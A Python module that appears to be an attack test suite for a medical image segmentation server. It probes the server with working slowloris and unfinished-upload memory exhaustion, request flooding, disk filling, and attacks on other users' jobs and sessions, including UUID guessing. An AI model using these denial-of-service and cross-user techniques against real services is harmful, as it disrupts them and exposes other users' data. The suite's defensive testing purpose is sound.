"""Attacks by load, by incomplete requests, and on the requests and sessions of other users."""

from __future__ import annotations

import json
import resource
import socket
import threading
import time
import uuid
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from contextlib import ExitStack, contextmanager, suppress
from urllib.parse import urlsplit

import psutil
import requests

from stress.attack.attacks import Site, Target, attack

_MB = 1 << 20

_FORM = "multipart/form-data; boundary=x"
_PART = b'--x\r\nContent-Disposition: form-data; name="params"%b\r\n\r\n' + bytes(900 << 10) + b"\r\n"
_FILE, _FIELD = _PART % b'; filename="a.nii.gz"', _PART % b""


# Incomplete requests, and requests that are too large.


@attack(Site.USERS)
def memory_by_unfinished_forms(target: Target) -> bool:
    """Begin 300 uploads with parts of less than a megabyte each, and finish none."""
    head = _head(target, "PUT /datastore/image?image=x", 60 * _MB, _FORM)
    return _memory_growth(target, head + 3 * _FILE, 300) > 250 * _MB


@attack(Site.USERS)
def memory_by_unfinished_fields(target: Target) -> bool:
    """Begin 300 prompts, each with three fields of less than a megabyte, and finish none."""
    head = _head(
        target, f"POST /infer/{target.model}?image={target.image}", 60 * _MB, "multipart/form-data; boundary=x"
    )
    return _memory_growth(target, head + 3 * _FIELD, 300) > 250 * _MB


@attack(Site.USERS)
def memory_by_logins(target: Target) -> bool:
    """Without a token, begin 300 logins of nearly a megabyte, and finish none."""
    form = "application/x-www-form-urlencoded"
    head = _head(target, "POST /login", _MB, form, token="")
    return _memory_growth(target, head + b"username=" + bytes(1000 << 10), 300) > 100 * _MB


@attack(Site.USERS)
def memory_by_bodies_to_nowhere(target: Target) -> bool:
    """Begin 300 uploads to a model and to an image that do not exist."""
    growth = 0
    for path in ("POST /infer/nothing?image=x", "PUT /datastore/label?image=nothing"):
        growth += _memory_growth(target, _head(target, path, 60 * _MB, _FORM) + 3 * _FILE, 150)
    return growth > 250 * _MB


@attack(Site.USERS)
def refused_bodies_are_read(target: Target) -> bool:
    """Send 64 MB with requests that are refused: no token, unknown route, unknown model, or a role that is too low."""
    nowhere = f"POST /infer/{target.model}?image={target.image}", "PUT /datastore/other"
    for request, token in ((nowhere[0], ""), (nowhere[1], target.token), ("POST /infer/nothing?image=x", target.token)):
        if (
            _bytes_accepted(target, _head(target, request, 64 * _MB, "application/octet-stream", token=token), 64 * _MB)
            > 32 * _MB
        ):
            return True
    head = _head(target, "POST /train/baps", 64 * _MB, "application/json", token=target.annotator)
    return _bytes_accepted(target, head, 64 * _MB) > 32 * _MB


@attack(Site.USERS)
def half_sent_headers(target: Target) -> bool:
    """Without a token, open 1,100 connections with half a header each, so that no other request is answered."""
    with (
        _limited_open_files(target, 1024),
        _open_connections(target, b"GET /auth/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Half: ", 1100),
    ):
        with suppress(requests.RequestException):
            return not requests.get(f"{target.address}/auth/", timeout=5).ok
        return True


@attack(Site.USERS)
def half_a_header_for_ever(target: Target) -> bool:
    """Send half a header, then a byte every second, so that the connection stays open."""
    with _connection(target) as connection:
        connection.sendall(b"GET /auth/ HTTP/1.1\r\nHost: 127.0.0.1\r\nX-Half: ")
        for _ in range(13):
            time.sleep(1)
            try:
                connection.sendall(b"x")
                if connection.recv(1):  # The server answered, and closes the connection.
                    return False
            except TimeoutError:
                continue
            except OSError:
                return False
        return True


# One user takes all resources.


@attack(Site.USERS)
def whole_organs_hold_up_a_login(target: Target) -> bool:
    """Segment many whole organs at once, repeatedly, so that others wait for seconds to sign in."""
    params = {**target.click, "seconds": 60}
    with _flooding(
        target, 60, "POST", "/infer/whole_organ", {"image": target.image}, data={"params": json.dumps(params)}
    ):
        return _slowest_seconds(target, _sign_in) > 1.5


@attack(Site.USERS)
def next_samples_hold_up_a_click(target: Target) -> bool:
    """Request the next sample 150 times at once, repeatedly, so that clicks of others are answered after seconds."""
    with _flooding(target, 150, "POST", "/activelearning/random", {}, json={}):
        return _slowest_seconds(target, _click) > 2.5


@attack(Site.USERS)
def sessions_without_number(target: Target) -> bool:
    """Open sessions without closing them, so that images fill the disk."""
    session_ids = []
    for _ in range(80):
        reply = target.request("PUT", "/session/", token=target.annotator, files={"files": ("a.nii.gz", b"x" * 100)})
        if reply.ok:
            session_ids.append(reply.json()["session_id"])
    for name in session_ids:
        target.request("DELETE", f"/session/{name}", token=target.annotator)
    return len(session_ids) == 80


# Requests and sessions of other users.


@attack(Site.USERS)
def end_anothers_answer(target: Target) -> bool:
    """As an annotator, cancel the whole-organ segmentation of another annotator."""
    return any("cancelled" in note for note in _request_whole_organs(target, target.users["other"], end=True))


@attack(Site.USERS)
def see_anothers_answers(target: Target) -> bool:
    """As an annotator, list the pending requests of other annotators."""
    seen_jobs: list[str] = []
    _request_whole_organs(target, target.users["other"], end=False, seen_jobs=seen_jobs)
    return bool(seen_jobs)


@attack(Site.USERS)
def end_anothers_session(target: Target) -> bool:
    """As an annotator, close another user's session by its id."""
    with _open_session(target) as name:
        target.request("DELETE", f"/session/{name}", token=target.users["other"])
        return not target.inspect("GET", f"/session/{name}", token=target.annotator).ok


@attack(Site.USERS)
def read_anothers_session(target: Target) -> bool:
    """As an annotator, fetch or segment the image of another user's session."""
    with _open_session(target) as name:
        other = target.users["other"]
        image = target.request("GET", f"/session/{name}", {"image": "true"}, token=other)
        info = target.request("GET", f"/session/{name}", token=other)
        params = {"params": json.dumps({**target.click, "result_extension": ".nrrd"})}
        query = {"session_id": name, "output": "image"}
        mask = target.request("POST", f"/infer/{target.model}", query, token=other, data=params)
        return image.ok or info.ok or mask.ok


@attack(Site.USERS)
def guess_a_session(target: Target) -> bool:
    """Guess the id of another user's session from the time and from an id of one's own."""
    with _open_session(target) as name, _open_session(target, target.users["other"]) as own:
        with suppress(ValueError):
            return uuid.UUID(name).version == 1 and uuid.UUID(name).node == uuid.UUID(own).node
        return False


def _head(target: Target, request: str, length: int, content_type: str, token: str | None = None) -> bytes:
    """Build the head of a request, with the annotator's token unless another one is given."""
    token = target.annotator if token is None else token
    lines = [f"{request} HTTP/1.1", f"Host: {urlsplit(target.address).netloc}", f"Content-Length: {length}"]
    lines += [f"Content-Type: {content_type}"] + ([f"Authorization: Bearer {token}"] if token else [])
    return "\r\n".join([*lines, "", ""]).encode()


@contextmanager
def _connection(target: Target) -> Iterator[socket.socket]:
    where = urlsplit(target.address)
    with socket.create_connection((where.hostname or "", where.port or 0), timeout=5) as connection:
        connection.settimeout(0.2)
        yield connection


@contextmanager
def _open_connections(target: Target, beginning: bytes, count: int) -> Iterator[None]:
    """Open connections, send the beginning of a request over each, and keep them open."""
    with ExitStack() as stack:
        for _ in range(count):
            with suppress(OSError):
                stack.enter_context(_connection(target)).sendall(beginning)
        yield


def _memory_growth(target: Target, beginning: bytes, count: int) -> int:
    """Measure by how many bytes the server's memory grows for this number of incomplete requests."""
    server = psutil.Process(target.process_id)
    before = server.memory_info().rss
    with _open_connections(target, beginning, count):
        time.sleep(1)
        growth = server.memory_info().rss - before
    target.inspect("GET", "/auth/")
    return growth


def _bytes_accepted(target: Target, head: bytes, length: int) -> int:
    """Count the bytes of a body that the server accepts after a head."""
    accepted = 0
    with _connection(target) as connection, suppress(OSError):
        connection.settimeout(5)
        connection.sendall(head)
        while accepted < length:
            accepted += connection.send(bytes(_MB))
    return accepted


@contextmanager
def _limited_open_files(target: Target, limit: int) -> Iterator[None]:
    """Limit the server's open files to a usual number, and raise our own limit to the maximum."""
    own, server = resource.getrlimit(resource.RLIMIT_NOFILE), psutil.Process(target.process_id)
    before = server.rlimit(psutil.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (own[1], own[1]))
    server.rlimit(psutil.RLIMIT_NOFILE, (limit, before[1]))
    try:
        yield
    finally:
        server.rlimit(psutil.RLIMIT_NOFILE, before)
        resource.setrlimit(resource.RLIMIT_NOFILE, own)


@contextmanager
def _flooding(
    target: Target, concurrent: int, method: str, path: str, query: dict[str, str], **sent: object
) -> Iterator[None]:
    """Send requests as an annotator without a pause, while the context is open."""
    stop = threading.Event()

    def request() -> None:
        while not stop.is_set():
            with suppress(requests.RequestException):
                reply = target.inspect(method, path, query, token=target.annotator, **sent)
                stop.wait(reply.status_code == 429)  # The attacks share the CPU with the server.

    with ThreadPoolExecutor(concurrent) as pool:
        for _ in range(concurrent):
            pool.submit(request)
        try:
            time.sleep(1)
            yield
        finally:
            stop.set()


def _slowest_seconds(target: Target, request: object) -> float:
    """Return the seconds that the slowest of six requests takes."""
    times = []
    for _ in range(6):
        start = time.monotonic()
        assert callable(request)
        request(target)
        times.append(time.monotonic() - start)
        time.sleep(0.5)
    return max(times)


def _sign_in(target: Target) -> None:
    login = {"username": "other", "password": target.users["other"]}
    target.request("POST", "/auth/token", token="", data=login)


def _click(target: Target) -> None:
    sent = {"params": json.dumps(dict(target.click))}
    target.request(
        "POST", f"/infer/{target.model}", {"image": target.other_image}, token=target.users["other"], data=sent
    )


def _request_whole_organs(target: Target, user_token: str, end: bool, seen_jobs: list[str] | None = None) -> list[str]:
    """Segment whole organs while another user lists and, with ``end``, cancels the jobs; return the answers' notes."""
    notes: list[str] = []
    stop = threading.Event()

    def request() -> None:
        params = {"params": json.dumps({**target.click, "seconds": 30})}
        for _ in range(20):
            if stop.is_set():
                return
            query = {"image": target.image, "output": "json"}
            reply = target.inspect("POST", "/infer/whole_organ", query, token=target.annotator, data=params)
            notes.extend(reply.json().get("notes", []) if reply.ok else [])

    threads = [threading.Thread(target=request) for _ in range(2)]
    for thread in threads:
        thread.start()
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline and any(thread.is_alive() for thread in threads):
        for token in (user_token, target.token):  # An admin sees all jobs, so other users may learn their ids.
            for job in target.inspect("GET", "/progress/", token=token).json():
                if token == user_token and seen_jobs is not None:
                    seen_jobs.append(job["id"])
                if end:
                    target.request("DELETE", f"/progress/{job['id']}", token=user_token)
    stop.set()
    for thread in threads:
        thread.join()
    return notes


@contextmanager
def _open_session(target: Target, token: str = "") -> Iterator[str]:
    """Open a session with an image as an annotator; yields its id."""
    token = token or target.annotator
    content = (target.images / f"{target.image}.nii.gz").read_bytes()
    files = {"files": ("a.nii.gz", content)}
    name: str = target.inspect("PUT", "/session/", token=token, files=files).json()["session_id"]
    try:
        yield name
    finally:
        target.inspect("DELETE", f"/session/{name}", token=token)
